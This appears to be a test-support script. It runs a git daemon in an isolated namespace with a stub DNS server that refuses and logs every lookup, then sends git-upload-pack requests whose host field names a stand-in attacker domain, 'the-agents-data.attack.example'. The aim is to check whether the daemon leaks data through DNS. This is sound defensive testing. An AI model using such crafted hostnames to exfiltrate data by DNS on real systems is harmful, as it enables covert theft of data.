"""Runs a git daemon, given as a command, on port 9418 where this is the only name server, and tells what it looks up.

For namespaces of its own, by test_git_daemon: it brings up their loopback and mounts over their resolv.conf.
"""

from __future__ import annotations

import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading

from tests.support import wait_until

_CLIENTS = 20


def main(command: list[str]) -> None:
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    with tempfile.NamedTemporaryFile("w") as resolv_conf:
        resolv_conf.write("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
        resolv_conf.flush()
        subprocess.run(["mount", "--bind", resolv_conf.name, "/etc/resolv.conf"], check=True)
        queries = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        queries.bind(("127.0.0.1", 53))
        threading.Thread(target=answer, args=(queries,), daemon=True).start()
        address = ("127.0.0.1", int(os.environ.get("GIT_GATE_PORT", "9418")))
        daemon = subprocess.Popen(command, stderr=subprocess.DEVNULL)
        try:
            wait_until(lambda: listens(address), 20, "the daemon")
            for number in range(_CLIENTS):
                print(f"answered {ask(address, number)[4:40]!r}", flush=True)
        finally:
            daemon.kill()
            daemon.wait()


def listens(address: tuple[str, int]) -> bool:
    with socket.socket() as probe:
        return probe.connect_ex(address) == 0


def ask(address: tuple[str, int], number: int) -> bytes:
    line = f"git-upload-pack /demo\0host={number}-the-agents-data.attack.example\0".encode()
    with socket.create_connection(address, timeout=30) as client:
        client.sendall(b"%04x%b" % (len(line) + 4, line))
        return client.recv(1 << 16)


def answer(queries: socket.socket) -> None:
    """Say of every name that there is none."""
    while True:
        query, client = queries.recvfrom(4096)
        labels, rest = [], query[12:]
        while rest[0]:
            labels.append(rest[1 : rest[0] + 1].decode())
            rest = rest[rest[0] + 1 :]
        print(f"asked for {'.'.join(labels)}", flush=True)
        queries.sendto(query[:2] + struct.pack(">5H", 0x8183, 1, 0, 0, 0) + query[12:], client)


if __name__ == "__main__":
    main(sys.argv[1:])
